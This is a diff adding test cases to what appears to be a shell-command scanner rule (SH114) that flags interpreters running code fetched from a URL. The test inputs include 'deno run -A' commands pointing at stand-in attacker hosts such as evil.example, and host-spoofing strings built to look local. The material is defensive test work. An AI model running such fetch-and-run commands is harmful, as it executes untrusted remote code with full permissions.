@@ -265,3 +265,7 @@ def test_a_program_that_an_interpreter_runs_from_an_address_is_found_except_from
     assert rules("deno run -A https://vendor.example/a.ts") == {"SH114"}
     assert rules("deno run -A https://deno.land.evil.example/a.ts") == {"SH114"}
     assert not rules("deno run https://deno.land/std/a.ts && deno run -A http://localhost:8000/a.ts")
+    for own in ("127.0.0.1", "10.1.2.3:80", "192.168.0.2", "172.20.0.1:", "[::1]:8000", "localhost:$PORT"):
+        assert not rules(f"deno run -A http://{own}/a.ts"), own
+    for other in ("10", "127.0.0.1", "192.168.0.2", "172.20", "localhost", f"localhost:{'x' * 70}@a", "[::1]@b"):
+        assert rules(f"deno run -A http://{other}.evil.example/a.ts"), other
